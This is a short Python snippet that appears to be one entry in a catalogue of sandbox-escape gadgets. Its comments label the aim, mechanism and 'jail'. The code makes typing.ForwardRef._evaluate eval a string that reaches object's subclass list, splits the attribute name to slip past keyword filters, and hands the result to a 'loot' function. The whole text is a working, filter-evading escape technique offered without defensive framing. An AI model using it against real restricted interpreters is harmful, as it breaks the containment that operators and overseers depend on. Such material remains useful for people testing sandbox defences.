# aim: let typing evaluate a forward reference
# mechanism: ForwardRef._evaluate calls eval
# language: builtins
# reason: the library evaluates text unguarded
# jail: process
# plain: loot

import typing

reference = typing.ForwardRef("().__class__.__base__.__subcl" + "asses__")
loot(reference._evaluate({}, {}, recursive_guard=frozenset()))
